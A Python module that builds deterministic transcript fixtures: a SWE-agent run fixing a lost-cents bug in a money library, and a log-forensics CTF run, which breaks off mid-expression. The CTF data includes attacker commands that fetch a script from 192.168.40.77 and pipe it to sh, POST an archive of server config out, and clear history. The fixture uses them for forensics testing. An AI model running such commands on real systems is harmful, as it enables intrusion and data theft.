"""Builds the committed format fixtures in ``fixtures/transcripts/formats/``: one file per foreign format.

Every file is written by this project, in the exact shape the real tool writes (see
``fixtures/transcripts/README.md``): a tau-bench run file, SWE-agent ``.traj`` files with and
without function calling, a Claude Code session JSONL, an OpenAI chat request and an Anthropic
Messages request. The content is authored here (no Faker, no randomness), so a rebuild gives the
same bytes; ``test_format_fixtures.py`` checks that the committed files are exactly what this
module builds. Regenerate after a change with::

    python tests/simulator/transcripts/format_fixtures.py
"""

from __future__ import annotations

import json
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[3]
FORMATS_DIR = REPO / "fixtures" / "transcripts" / "formats"
UUID_NAMESPACE = uuid.UUID("0b1e7a51-5c0f-4d1e-9a52-6c7478726563")
PNG_1X1 = (  # a real 1×1 PNG
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

# -- SWE-agent with function calling: a bug fix in a small money library --------------------------------

MONEY_PY = '''\
"""Money amounts in minor units (cents), with exact splitting and formatting."""

from __future__ import annotations

from dataclasses import dataclass
from decimal import ROUND_HALF_EVEN, Decimal

__all__ = ["Currency", "Money", "parse_amount"]

MINOR_UNITS = {"EUR": 2, "USD": 2, "JPY": 0, "KWD": 3}


class CurrencyMismatch(ValueError):
    """Two amounts in different currencies were combined."""


@dataclass(frozen=True)
class Currency:
    code: str

    @property
    def exponent(self) -> int:
        try:
            return MINOR_UNITS[self.code]
        except KeyError:
            raise ValueError(f"unknown currency {self.code!r}") from None


@dataclass(frozen=True)
class Money:
    """An amount of one currency, kept as an integer number of minor units."""

    minor: int
    currency: Currency

    @classmethod
    def of(cls, amount: str, code: str) -> Money:
        currency = Currency(code)
        quantum = Decimal(1).scaleb(-currency.exponent)
        value = Decimal(amount).quantize(quantum, rounding=ROUND_HALF_EVEN)
        return cls(int(value.scaleb(currency.exponent)), currency)

    def _check(self, other: Money) -> None:
        if other.currency != self.currency:
            raise CurrencyMismatch(f"{self.currency.code} and {other.currency.code}")

    def __add__(self, other: Money) -> Money:
        self._check(other)
        return Money(self.minor + other.minor, self.currency)

    def __sub__(self, other: Money) -> Money:
        self._check(other)
        return Money(self.minor - other.minor, self.currency)

    def __neg__(self) -> Money:
        return Money(-self.minor, self.currency)

    def is_zero(self) -> bool:
        return self.minor == 0

    def split(self, parts: int) -> list[Money]:
        """Split into ``parts`` amounts that add up to this one."""
        if parts < 1:
            raise ValueError(f"parts must be >= 1, got {parts}")
        share = self.minor // parts
        return [Money(share, self.currency) for _ in range(parts)]

    def allocate(self, ratios: list[int]) -> list[Money]:
        """Split by integer ratios; the remainder goes to the first shares."""
        total = sum(ratios)
        if total <= 0 or any(r < 0 for r in ratios):
            raise ValueError(f"ratios must be >= 0 with a positive sum, got {ratios}")
        shares = [self.minor * r // total for r in ratios]
        remainder = self.minor - sum(shares)
        for index in range(remainder):
            shares[index] += 1
        return [Money(s, self.currency) for s in shares]

    def format(self, *, symbol: bool = False) -> str:
        exponent = self.currency.exponent
        sign = "-" if self.minor < 0 else ""
        whole, cents = divmod(abs(self.minor), 10**exponent)
        text = f"{whole:,}" if not exponent else f"{whole:,}.{cents:0{exponent}d}"
        prefix = {"EUR": "€", "USD": "$"}.get(self.currency.code, "") if symbol else ""
        suffix = "" if symbol else f" {self.currency.code}"
        return f"{sign}{prefix}{text}{suffix}"

    def __str__(self) -> str:
        return self.format()


def parse_amount(text: str) -> Money:
    """``"12.50 EUR"`` → Money(1250, EUR); the code may come first or last."""
    parts = text.split()
    if len(parts) != 2:
        raise ValueError(f"expected '<amount> <code>', got {text!r}")
    first, second = parts
    if first.isalpha():
        first, second = second, first
    return Money.of(first.replace(",", ""), second.upper())


def total(amounts: list[Money]) -> Money:
    """The sum of ``amounts`` (all of one currency); an empty list is an error."""
    if not amounts:
        raise ValueError("total of no amounts: pass at least one")
    result = amounts[0]
    for amount in amounts[1:]:
        result = result + amount
    return result


def largest_first(amounts: list[Money]) -> list[Money]:
    """The amounts sorted from largest to smallest (stable for equal amounts)."""
    return sorted(amounts, key=lambda money: -money.minor)
'''

TEST_MONEY_PY = """\
import pytest

from ledgerline.money import CurrencyMismatch, Money, parse_amount, total


def eur(amount: str) -> Money:
    return Money.of(amount, "EUR")


@pytest.mark.parametrize(
    ("text", "minor", "code"),
    [("12.50 EUR", 1250, "EUR"), ("EUR 12.50", 1250, "EUR"), ("1,234.5 usd", 123450, "USD"),
     ("700 JPY", 700, "JPY"), ("1.2345 KWD", 1234, "KWD"), ("-3.10 EUR", -310, "EUR")],
)
def test_parse_amount(text: str, minor: int, code: str) -> None:
    money = parse_amount(text)
    assert (money.minor, money.currency.code) == (minor, code)


def test_parse_amount_needs_two_parts() -> None:
    with pytest.raises(ValueError, match="expected '<amount> <code>'"):
        parse_amount("12.50")


def test_rounding_is_half_even() -> None:
    assert eur("0.125").minor == 12 and eur("0.135").minor == 14


def test_add_and_subtract() -> None:
    assert (eur("1.10") + eur("2.20")).minor == 330
    assert (eur("1.10") - eur("2.20")).minor == -110
    assert (-eur("1.10")).minor == -110


def test_mixing_currencies_is_an_error() -> None:
    with pytest.raises(CurrencyMismatch, match="EUR and USD"):
        eur("1") + Money.of("1", "USD")


def test_unknown_currency() -> None:
    with pytest.raises(ValueError, match="unknown currency 'XYZ'"):
        Money.of("1", "XYZ")


def test_split_even() -> None:
    assert [s.minor for s in eur("9.00").split(3)] == [300, 300, 300]


def test_split_rejects_zero_parts() -> None:
    with pytest.raises(ValueError, match="parts must be >= 1"):
        eur("1").split(0)


def test_allocate_gives_the_remainder_to_the_first_shares() -> None:
    assert [s.minor for s in eur("0.05").allocate([1, 1, 1])] == [2, 2, 1]
    assert [s.minor for s in eur("10.00").allocate([70, 20, 10])] == [700, 200, 100]


def test_allocate_rejects_bad_ratios() -> None:
    with pytest.raises(ValueError, match="ratios must be >= 0"):
        eur("1").allocate([1, -1])
    with pytest.raises(ValueError, match="positive sum"):
        eur("1").allocate([0, 0])


@pytest.mark.parametrize(
    ("amount", "symbol", "text"),
    [("1234.5", False, "1,234.50 EUR"), ("1234.5", True, "€1,234.50"), ("-0.5", False, "-0.50 EUR")],
)
def test_format(amount: str, symbol: bool, text: str) -> None:
    assert eur(amount).format(symbol=symbol) == text


def test_total_and_its_empty_case() -> None:
    assert total([eur("1"), eur("2"), eur("3")]).minor == 600
    with pytest.raises(ValueError, match="total of no amounts"):
        total([])
"""

SWE_SYSTEM = """\
SETTING: You are a software engineer working in a terminal through a small set of tools. You edit \
files through the file viewer and run shell commands; you cannot run interactive programs such as \
vim or python without arguments.

TOOLS:
  find_file <name> [<dir>]   find files by name
  open <path> [<line>]       show 100 lines of a file in the viewer, around <line>
  goto <line>                move the viewer to <line>
  scroll_down / scroll_up    move the viewer by 100 lines
  search_file <text> [<path>] search the open (or given) file
  create <path>              create an empty file and open it
  edit <start>:<end>         replace lines <start> to <end> of the open file with the given text
  bash <command>             run a shell command and show its output
  submit                     submit your change (the diff of the repository)

RULES:
1. Reproduce the bug before you fix it, and run the reproduction again afterwards.
2. Keep indentation exact: an edit with wrong indentation is rejected.
3. One tool call per reply; wait for its output before the next step.
4. Remove scratch files before you submit.
"""

SWE_ISSUE = """\
We're fixing the following issue in the repository at /workspace/ledgerline.
ISSUE:
Money.split() loses minor units when the amount does not divide evenly

Splitting 10.00 EUR three ways gives three shares of 3.33 EUR: one cent disappears.

```python
from ledgerline.money import Money

shares = Money.of("10.00", "EUR").split(3)
print([str(s) for s in shares])            # ['3.33 EUR', '3.33 EUR', '3.33 EUR']
print(sum(s.minor for s in shares))        # 999, expected 1000
```

`allocate()` already hands the remainder to the first shares; `split()` should do the same, so the
shares always add up to the original amount (and a negative amount splits into negative shares).

INSTRUCTIONS:
Solve the issue yourself with the tools above. Reproduce it first, make the smallest change that
fixes it, run the tests of the module, then submit.
(Open file: n/a)
(Current directory: /workspace/ledgerline)
bash-$"""

REPRODUCE_PY = """\
from ledgerline.money import Money

for amount, parts in (("10.00", 3), ("0.05", 2), ("-10.00", 3), ("7", 7)):
    shares = Money.of(amount, "EUR").split(parts)
    print(amount, parts, [str(s) for s in shares], sum(s.minor for s in shares))
"""

FIXED_SPLIT = '''\
    def split(self, parts: int) -> list[Money]:
        """Split into ``parts`` amounts that add up to this one (the first shares take the remainder)."""
        if parts < 1:
            raise ValueError(f"parts must be >= 1, got {parts}")
        return self.allocate([1] * parts)
'''

NEW_TEST = """

@pytest.mark.parametrize(("amount", "parts"), [("10.00", 3), ("0.05", 2), ("-10.00", 3)])
def test_split_keeps_every_minor_unit(amount: str, parts: int) -> None:
    shares = eur(amount).split(parts)
    assert sum(s.minor for s in shares) == eur(amount).minor
    assert max(s.minor for s in shares) - min(s.minor for s in shares) <= 1
"""
TEST_IDS: tuple[str, ...] = (
    *(
        f"test_parse_amount[{case}]"
        for case in (
            "12.50 EUR-1250-EUR",
            "EUR 12.50-1250-EUR",
            "1,234.5 usd-123450-USD",
            "700 JPY-700-JPY",
            "1.2345 KWD-1234-KWD",
            "-3.10 EUR--310-EUR",
        )
    ),
    "test_parse_amount_needs_two_parts",
    "test_rounding_is_half_even",
    "test_add_and_subtract",
    "test_mixing_currencies_is_an_error",
    "test_unknown_currency",
    "test_split_even",
    "test_split_rejects_zero_parts",
    "test_allocate_gives_the_remainder_to_the_first_shares",
    "test_allocate_rejects_bad_ratios",
    *(
        f"test_format[{case}]"
        for case in ("1234.5-False-1,234.50 EUR", "1234.5-True-\\u20ac1,234.50", "-0.5-False--0.50 EUR")
    ),
    "test_total_and_its_empty_case",
    *(f"test_split_keeps_every_minor_unit[{case}]" for case in ("10.00-3", "0.05-2", "-10.00-3")),
)


def _pytest_verbose() -> str:
    """``pytest -v`` of the module's tests, every one passing."""
    lines = [
        "============================= test session starts ==============================",
        "platform linux -- Python 3.11.9, pytest-8.2.1, pluggy-1.5.0 -- /usr/local/bin/python",
        "cachedir: .pytest_cache",
        "rootdir: /workspace/ledgerline",
        "configfile: pyproject.toml",
        f"collecting ... collected {len(TEST_IDS)} items",
        "",
    ]
    for index, test_id in enumerate(TEST_IDS, start=1):
        progress = f"[{index * 100 // len(TEST_IDS):3d}%]"
        lines.append(f"tests/test_money.py::{test_id} PASSED".ljust(73) + " " + progress)
    lines += [
        "",
        f"============================== {len(TEST_IDS)} passed in 0.11s ==============================",
    ]
    return "\n".join(lines)


SEARCH_DIR = """\
Found 9 matches for "split(" in /workspace/ledgerline:
/workspace/ledgerline/README.md (2 matches)
/workspace/ledgerline/docs/usage.rst (3 matches)
/workspace/ledgerline/src/ledgerline/invoice.py (2 matches)
/workspace/ledgerline/src/ledgerline/money.py (1 matches)
/workspace/ledgerline/tests/test_money.py (1 matches)
End of matches for "split(" in /workspace/ledgerline"""
SEARCH_INVOICE = """\
Found 2 matches for "split(" in /workspace/ledgerline/src/ledgerline/invoice.py:
Line 48:        instalments = self.total.split(self.terms)
Line 71:        per_line = discount.split(len(self.lines))
End of matches for "split(" in /workspace/ledgerline/src/ledgerline/invoice.py"""


SWE_FC_STATE = "{'open_file': 'src/ledgerline/money.py', 'working_dir': '/workspace/ledgerline'}"


def _crlf(text: str) -> str:
    """Terminal output as SWE-agent records it: CRLF line ends from the pty."""
    return text.replace("\n", "\r\n")


def _viewer(path: str, lines: list[str], first: int, count: int = 100) -> str:
    """The file viewer's window: header, numbered lines, and the lines above/below."""
    window = lines[first - 1 : first - 1 + count]
    out = [f"[File: {path} ({len(lines)} lines total)]"]
    if first > 1:
        out.append(f"({first - 1} more lines above)")
    out += [f"{first + i}:{line}" for i, line in enumerate(window)]
    below = len(lines) - (first - 1 + len(window))
    if below > 0:
        out.append(f"({below} more lines below)")
    return "\n".join(out)


def _footer(open_file: str) -> str:
    return f"\n(Open file: {open_file})\n(Current directory: /workspace/ledgerline)\nbash-$"


def _swe_fc_steps() -> list[tuple[str, str, dict[str, Any], str]]:
    """(thought, tool, arguments, observation) per step of the function-calling run."""
    money = "/workspace/ledgerline/src/ledgerline/money.py"
    scratch = "/workspace/ledgerline/reproduce.py"
    tests = "/workspace/ledgerline/tests/test_money.py"
    source = MONEY_PY.splitlines()
    fixed = MONEY_PY.replace(
        MONEY_PY[MONEY_PY.index("    def split(") : MONEY_PY.index("    def allocate(")], FIXED_SPLIT + "\n"
    ).splitlines()
    split_at = source.index("    def split(self, parts: int) -> list[Money]:") + 1
    split_end = split_at + 5
    diff = (
        "diff --git a/src/ledgerline/money.py b/src/ledgerline/money.py\n"
        "index 5d41402..9c2e5b1 100644\n--- a/src/ledgerline/money.py\n+++ b/src/ledgerline/money.py\n"
        f"@@ -{split_at},6 +{split_at},5 @@ class Money:\n"
        "     def split(self, parts: int) -> list[Money]:\n"
        '-        """Split into ``parts`` amounts that add up to this one."""\n'
        '+        """Split into ``parts`` amounts that add up to this one (the first shares take the '
        'remainder)."""\n'
        "         if parts < 1:\n"
        '             raise ValueError(f"parts must be >= 1, got {parts}")\n'
        "-        share = self.minor // parts\n"
        "-        return [Money(share, self.currency) for _ in range(parts)]\n"
        "+        return self.allocate([1] * parts)\n"
    )
    old_tests = TEST_MONEY_PY.splitlines()
    diff += (
        "diff --git a/tests/test_money.py b/tests/test_money.py\n"
        "index 3b18e51..7d6f0c2 100644\n--- a/tests/test_money.py\n+++ b/tests/test_money.py\n"
        f"@@ -{len(old_tests) - 2},3 +{len(old_tests) - 2},{3 + len(NEW_TEST.splitlines())} @@ "
        "def test_total_and_its_empty_case() -> None:\n"
        + "".join(f" {line}\n" for line in old_tests[-3:])
        + "".join(f"+{line}\n" for line in NEW_TEST.splitlines())
    )
    return [
        (
            "Let's find the module that defines Money first.",
            "find_file",
            {"file_name": "money.py"},
            'Found 1 matches for "money.py" in /workspace/ledgerline:\n'
            "/workspace/ledgerline/src/ledgerline/money.py" + _footer("n/a"),
        ),
        (
            "Before opening it, let's see who calls split(): a fix must keep its callers working.",
            "search_dir",
            {"search_term": "split("},
            SEARCH_DIR + _footer("n/a"),
        ),
        (
            "Two calls in invoice.py: let's see what they split.",
            "search_file",
            {"search_term": "split(", "file": "src/ledgerline/invoice.py"},
            SEARCH_INVOICE + _footer("n/a"),
        ),
        (
            "Invoices split their total into instalments and a discount over their lines, so lost "
            "cents end up "
            "as invoices that do not add up. The module is src/ledgerline/money.py. Let's open it to see how "
            "split() is written.",
            "open",
            {"path": "src/ledgerline/money.py"},
            _viewer(money, source, 1) + _footer(money),
        ),
        (
            "Let's see the rest of the module.",
            "scroll_down",
            {},
            _viewer(money, source, 101) + _footer(money),
        ),
        (
            "Let's also look at the existing tests of split() and allocate().",
            "open",
            {"path": "tests/test_money.py"},
            _viewer(tests, TEST_MONEY_PY.splitlines(), 1) + _footer(tests),
        ),
        (
            "split() floors every share (`self.minor // parts`) and drops the remainder, while allocate() "
            "hands it to the first shares. Before changing anything, let's reproduce the issue with a small "
            "script that also covers a negative amount and an even split.",
            "create",
            {"filename": "reproduce.py"},
            "[File: reproduce.py (1 lines total)]\n1:" + _footer("/workspace/ledgerline/reproduce.py"),
        ),
        (
            "Now the reproduction code.",
            "edit",
            {"replacement_text": REPRODUCE_PY, "start_line": 1, "end_line": 1},
            "File updated. Please review the changes and make sure they are correct\n(correct indentation, "
            "no duplicate lines, etc). Edit the file again if necessary.\n"
            + _viewer("/workspace/ledgerline/reproduce.py", REPRODUCE_PY.splitlines(), 1)
            + _footer("/workspace/ledgerline/reproduce.py"),
        ),
        (
            "Let's run it.",
            "bash",
            {"command": "python reproduce.py"},
            "10.00 3 ['3.33 EUR', '3.33 EUR', '3.33 EUR'] 999\n0.05 2 ['0.02 EUR', '0.02 EUR'] 4\n"
            "-10.00 3 ['-3.34 EUR', '-3.34 EUR', '-3.34 EUR'] -1002\n7 7 ['1.00 EUR', '1.00 EUR', "
            "'1.00 EUR', "
            "'1.00 EUR', '1.00 EUR', '1.00 EUR', '1.00 EUR'] 700" + _footer(scratch),
        ),
        (
            "Reproduced: 999 instead of 1000, 4 instead of 5, and the negative amount even gains two cents "
            "(-1002) because floor division rounds towards minus infinity. Let's look at split() again.",
            "search_file",
            {"search_term": "def split", "file": "src/ledgerline/money.py"},
            f'Found 1 matches for "def split" in {money}:\nLine {split_at}:    def split(self, parts: int) '
            f'-> list[Money]:\nEnd of matches for "def split" in {money}' + _footer(scratch),
        ),
        (
            "Let's open the module at split().",
            "open",
            {"path": "src/ledgerline/money.py", "line_number": split_at},
            _viewer(money, source, max(1, split_at - 49)) + _footer(money),
        ),
        (
            "allocate() distributes the remainder one unit at a time, but for a negative amount its "
            "remainder would be negative and `range(remainder)` would do nothing. Equal ratios make "
            "allocate() an exact split for positive amounts; let's check how it handles negatives before "
            "reusing it.",
            "bash",
            {
                "command": 'python -c "from ledgerline.money import Money; '
                "print([str(m) for m in Money.of('-10.00','EUR').allocate([1,1,1])])\""
            },
            "['-3.34 EUR', '-3.33 EUR', '-3.33 EUR']" + _footer(money),
        ),
        (
            "allocate() gets negatives right: Python's floor division gives -334 for each share and the "
            "remainder (+2) goes to the first shares. So split() can delegate to allocate() with equal "
            "ratios.",
            "edit",
            {"replacement_text": FIXED_SPLIT, "start_line": split_at, "end_line": split_end},
            "File updated. Please review the changes and make sure they are correct\n(correct indentation, "
            "no duplicate lines, etc). Edit the file again if necessary.\n"
            + _viewer(money, fixed, max(1, split_at - 49))
            + _footer(money),
        ),
        (
            "Let's run the reproduction again.",
            "bash",
            {"command": "python reproduce.py"},
            "10.00 3 ['3.34 EUR', '3.33 EUR', '3.33 EUR'] 1000\n0.05 2 ['0.03 EUR', '0.02 EUR'] 5\n"
            "-10.00 3 ['-3.34 EUR', '-3.33 EUR', '-3.33 EUR'] -1000\n7 7 ['1.00 EUR', '1.00 EUR', "
            "'1.00 EUR', "
            "'1.00 EUR', '1.00 EUR', '1.00 EUR', '1.00 EUR'] 700" + _footer(money),
        ),
        (
            "Every split now adds up. Let's add a regression test next to the existing split tests.",
            "edit",
            {
                "replacement_text": NEW_TEST,
                "start_line": len(TEST_MONEY_PY.splitlines()) + 1,
                "end_line": len(TEST_MONEY_PY.splitlines()) + 1,
            },
            "File updated. Please review the changes and make sure they are correct\n(correct indentation, "
            "no duplicate lines, etc). Edit the file again if necessary.\n"
            + _viewer(tests, (TEST_MONEY_PY + NEW_TEST).splitlines(), 1)
            + _footer(tests),
        ),
        (
            "Now the module's tests, verbosely, to see the new cases pass.",
            "bash",
            {"command": "python -m pytest tests/test_money.py -v -p no:cacheprovider"},
            _pytest_verbose() + _footer(tests),
        ),
        (
            "All pass. Let's review the whole change before cleaning up.",
            "bash",
            {"command": "git diff"},
            diff + _footer(tests),
        ),
        (
            "The tests pass. Let's remove the reproduction script before submitting.",
            "bash",
            {"command": "rm reproduce.py"},
            "Your command ran successfully and did not produce any output." + _footer(money),
        ),
        ("Everything is in place; let's submit.", "submit", {}, diff + _footer(money)),
    ]


def swe_agent_fc() -> dict[str, Any]:
    """A SWE-agent trajectory with function calling (``history`` with ``tool_calls``/``tool_call_ids``)."""
    history: list[dict[str, Any]] = [
        {"message_type": "system_prompt", "role": "system", "content": SWE_SYSTEM, "agent": "main"},
        {"message_type": "observation", "role": "user", "content": SWE_ISSUE, "agent": "main"},
    ]
    trajectory: list[dict[str, Any]] = []
    for index, (thought, tool, arguments, observation) in enumerate(_swe_fc_steps()):
        call_id = f"call_{uuid.uuid5(UUID_NAMESPACE, f'swe-fc-{index}').hex[:24]}"
        action = " ".join([tool, *(str(v) for v in arguments.values())]).strip()
        history.append(
            {
                "message_type": "action",
                "role": "assistant",
                "content": thought,
                "thought": thought,
                "action": action,
                "agent": "main",
                "tool_calls": [
                    {
                        "function": {"arguments": json.dumps(arguments), "name": tool},
                        "id": call_id,
                        "type": "function",
                    }
                ],
            }
        )
        recorded = _crlf(observation)
        history.append(
            {
                "message_type": "observation",
                "role": "tool",
                "content": recorded,
                "agent": "main",
                "tool_call_ids": [call_id],
            }
        )
        trajectory.append(
            {
                "action": action,
                "observation": recorded.rsplit("\r\n(Open file:", 1)[0],
                "response": thought,
                "thought": thought,
                "execution_time": f"{0.11 + 0.07 * index:.3f}",
                "state": SWE_FC_STATE,
            }
        )
    submission = _crlf(_swe_fc_steps()[-1][3].split("\n(Open file:")[0])
    return {
        "environment": "main",
        "trajectory": trajectory,
        "history": history,
        "info": {
            "submission": submission,
            "exit_status": "submitted",
            "model_stats": {
                "instance_cost": 0.2117,
                "tokens_sent": 61430,
                "tokens_received": 1904,
                "api_calls": len(trajectory),
            },
        },
        "replay_config": {
            "agent": {"name": "ledgerline-split-remainder", "model": {"name": "gpt-4o"}},
            "env": {"repo": {"repo_name": "ledgerline", "type": "preexisting"}},
        },
    }


# -- SWE-agent without function calling (the older format): a log-forensics challenge ------------------

NOFC_SYSTEM = """\
SETTING: You are an experienced incident responder and CTF player working in a Linux shell. Your goal \
is to find the flag of the challenge. The flag looks like flag{...}.

Each reply has two parts: a DISCUSSION of what you think and plan, then exactly one shell command in a \
fenced code block. The environment runs the command and shows you its output. You cannot run \
interactive commands (less, vim, python without a script). When you have the flag, run
`submit flag{...}`.

Commands besides the standard shell: decode_b64 <text>, submit <flag>.
"""

NOFC_DEMO = """\
Here is a demonstration of how to work on a challenge:

DISCUSSION
The archive is gzipped; let's list it without extracting it.
```
tar tzf evidence.tgz
```
(output omitted)

DISCUSSION
The file notes.txt mentions a key; let's print it.
```
tar xzf evidence.tgz -O notes.txt
```
(output omitted)
--- END OF DEMONSTRATION ---"""

NOFC_TASK = """\
We're solving the following challenge: "Quiet Rotation" (forensics, 150 points).
DESCRIPTION:
Our web node was compromised last night, but the attacker rotated the logs to cover their tracks. \
Everything that was on the box is in /challenge. Find out what they exfiltrated.

INSTRUCTIONS:
Work in /challenge. Submit the flag with `submit`.
(Open file: n/a)
(Current directory: /challenge)
bash-$"""

NOFC_HOSTS = ("10.4.7.12", "10.4.7.31", "172.16.9.4", "192.168.40.77", "10.4.7.55")
NOFC_PATHS = (
    "/",
    "/login",
    "/static/app.js",
    "/api/orders?page={n}",
    "/api/orders/{n}",
    "/health",
    "/static/logo.png",
    "/api/cart",
)
NOFC_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64)",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4)",
)


def _access_log(day: int, count: int, *, start: int = 0) -> str:
    """Deterministic nginx access-log lines for one rotated file."""
    lines = []
    for n in range(start, start + count):
        host = NOFC_HOSTS[(n * 7 + day) % len(NOFC_HOSTS)]
        path = NOFC_PATHS[(n * 5 + day) % len(NOFC_PATHS)].format(n=(n * 13) % 97 + 1)
        status = (200, 200, 200, 304, 404, 200, 302)[(n + day) % 7]
        size = 312 + (n * 379 + day * 11) % 9000
        agent = NOFC_AGENTS[(n + 2 * day) % len(NOFC_AGENTS)]
        stamp = f"1{day}/Mar/2025:0{n % 10}:{(n * 7) % 60:02d}:{(n * 31) % 60:02d} +0000"
        lines.append(f'{host} - - [{stamp}] "GET {path} HTTP/1.1" {status} {size} "-" "{agent}"')
    return "\n".join(lines)


NOFC_STATE = '{"open_file": "n/a", "working_dir": "/challenge"}'
ATTACKER = "192.168.40.77"
SECRET = "flag{r0tat3d_but_n0t_f0rg0tt3n}"
SECRET_B64 = "ZmxhZ3tyMHRhdDNkX2J1dF9uMHRfZjByZzB0dDNufQ=="


def _swe_nofc_steps() -> list[tuple[str, str, str]]:
    """(discussion, command, observation) per step of the older-format run."""
    listing = "\n".join(
        [
            "total 84",
            "drwxr-xr-x 1 root root  4096 Mar 15 02:10 .",
            "drwxr-xr-x 1 root root  4096 Mar 15 02:09 ..",
            "-rw-r--r-- 1 root root 21488 Mar 15 02:03 access.log",
            "-rw-r--r-- 1 root root 14122 Mar 14 00:00 access.log.1",
            "-rw-r--r-- 1 root root  3911 Mar 13 00:00 access.log.2.gz",
            "-rw-r--r-- 1 root root  3657 Mar 12 00:00 access.log.3.gz",
            "-rw-r--r-- 1 root root   912 Mar 15 02:01 cron.log",
            "-rw------- 1 root root   188 Mar 15 01:58 .bash_history_www",
            "-rw-r--r-- 1 root root  2101 Mar 15 01:40 nginx.conf",
        ]
    )
    conf = "\n".join(
        [
            "user www-data;",
            "worker_processes auto;",
            "events { worker_connections 768; }",
            "http {",
            "    log_format main '$remote_addr - $remote_user [$time_local] \"$request\" '",
            '                    \'$status $body_bytes_sent "$http_referer" "$http_user_agent"\';',
            "    access_log /var/log/nginx/access.log main;",
            "    server {",
            "        listen 80;",
            "        root /srv/shop/public;",
            "        location /api/ { proxy_pass http://127.0.0.1:8080; }",
            "        location /internal/ { allow 10.4.7.0/24; deny all; proxy_pass http://127.0.0.1:9090; }",
            "    }",
            "}",
        ]
    )
    cron = "\n".join(
        [
            "Mar 15 00:00:01 web1 CRON[2211]: (root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)",
            "Mar 15 01:00:01 web1 CRON[2390]: (root) CMD (run-parts /etc/cron.hourly)",
            "Mar 15 01:57:44 web1 CRON[2471]: (www-data) CMD (curl -s http://192.168.40.77:8000/u.sh | sh)",
            "Mar 15 02:00:01 web1 CRON[2480]: (root) CMD (run-parts /etc/cron.hourly)",
            "Mar 15 02:01:12 web1 logrotate[2488]: rotating pattern: /var/log/nginx/*.log forced from "
            "command line",
            "Mar 15 02:01:12 web1 logrotate[2488]: renaming /var/log/nginx/access.log.1 to "
            "/var/log/nginx/access.log.2",
            "Mar 15 02:01:13 web1 logrotate[2488]: compressing log with: /bin/gzip",
        ]
    )
    history = "\n".join(
        [
            "cd /tmp",
            "curl -s http://192.168.40.77:8000/u.sh -o u.sh",
            "chmod +x u.sh",
            "./u.sh",
            "tar czf /tmp/.c.tgz /srv/shop/config",
            "curl -s -X POST --data-binary @/tmp/.c.tgz http://192.168.40.77:8000/in",
            "logrotate -f /etc/logrotate.conf",
            "rm -f u.sh /tmp/.c.tgz",
            "history -c",
        ]
    )
    rotated_2 = _access_log(3, 46)
    rotated_2 += (
        '\n192.168.40.77 - - [13/Mar/2025:23:41:07 +0000] "GET /internal/export?token='
        f'{SECRET_B64} HTTP/1.1" 403 162 "-" "python-requests/2.31.0"'
    )
    rotated_2 += "\n" + _access_log(3, 12, start=46)
    return [
        ("Let's start by looking at what is in the challenge directory.", "ls -la /challenge", listing),
        (
            "There are rotated nginx access logs, a cron log, a bash history of www-data and the nginx "
            "configuration. The configuration first, to know the log format and what is exposed.",
            "cat nginx.conf",
            conf,
        ),
        (
            "/internal/ is restricted to 10.4.7.0/24 and proxied to a service on 9090. The cron log "
            "should tell "
            "when the logs were rotated.",
            "cat cron.log",
            cron,
        ),
        (
            "At 01:57 www-data's crontab fetched a script from 192.168.40.77 and piped it to sh, and "
            "at 02:01 "
            "logrotate was forced from the command line. Let's read the hidden bash history.",
            "cat .bash_history_www",
            history,
        ),
        (
            "The attacker archived /srv/shop/config and POSTed it to 192.168.40.77, then forced a rotation. "
            "Let's see whether 192.168.40.77 shows up in the current log.",
            "grep -c 192.168.40.77 access.log",
            "0",
        ),
        (
            "Nothing in the current file, as expected after the forced rotation. Let's look at the first "
            "rotation.",
            "head -n 70 access.log.1",
            _access_log(4, 70),
        ),
        (
            "Ordinary traffic. Let's count the requests per client in access.log.1.",
            "awk '{print $1}' access.log.1 | sort | uniq -c | sort -rn",
            "\n".join(f"{40 - 6 * i:7d} {host}" for i, host in enumerate(NOFC_HOSTS)),
        ),
        (
            "192.168.40.77 appears but the volume is normal. Let's check the compressed rotations too.",
            "zcat access.log.2.gz | head -n 80",
            _access_log(3, 80),
        ),
        (
            "Still ordinary. Let's search both compressed files for the attacker's address.",
            "zgrep -n 192.168.40.77 access.log.2.gz access.log.3.gz | head -n 30",
            "\n".join(
                f"access.log.{2 + (i % 2)}.gz:{i * 3 + 1}:{line}"
                for i, line in enumerate(
                    line for line in _access_log(3, 90).splitlines() if line.startswith(ATTACKER)
                )
            ),
        ),
        (
            "Many plain GETs; nothing stands out. The internal endpoint should be rarer: let's look for it.",
            "zgrep -n /internal/ access.log.2.gz access.log.3.gz",
            f'access.log.2.gz:47:192.168.40.77 - - [13/Mar/2025:23:41:07 +0000] "GET /internal/export?token='
            f'{SECRET_B64} HTTP/1.1" 403 162 "-" "python-requests/2.31.0"',
        ),
        (
            "One request to /internal/export with a token, refused with 403 because it came from outside "
            "10.4.7.0/24. The token looks like base64. Let's see its surroundings first.",
            "zcat access.log.2.gz | sed -n '30,70p'",
            "\n".join(rotated_2.splitlines()[29:70]),
        ),
        ("Let's decode the token.", f"decode_b64 {SECRET_B64}", SECRET),
        (
            "The token decodes to a flag-shaped string. Before submitting, let's check that the third "
            "rotation "
            "holds nothing else from that address besides normal GETs.",
            "zcat access.log.3.gz | grep -v 'GET / \\|/static/\\|/health' | head -n 60",
            _access_log(2, 60),
        ),
        (
            "Nothing else unusual. Let's also check what the attacker's script would have sent, in case the "
            "flag is in the exfiltrated archive instead.",
            "ls -la /srv/shop/config 2>&1 | head",
            "ls: cannot access '/srv/shop/config': No such file or directory",
        ),
        (
            "The config directory is not part of the evidence. Let's make sure there is no second "
            "token in the "
            "uncompressed rotation.",
            "grep -n token access.log.1 | head",
            "",
        ),
        (
            "No other token. Let's look at the last lines of the current log to see the end of the attack.",
            "tail -n 60 access.log",
            _access_log(5, 60),
        ),
        (
            "The current log only has traffic after the rotation. Let's confirm the timeline around 23:41 in "
            "the second rotation once more, with the status codes.",
            "zcat access.log.2.gz | awk '$4 ~ /23:4/ {print $4, $7, $9}' | head -n 40",
            "\n".join(
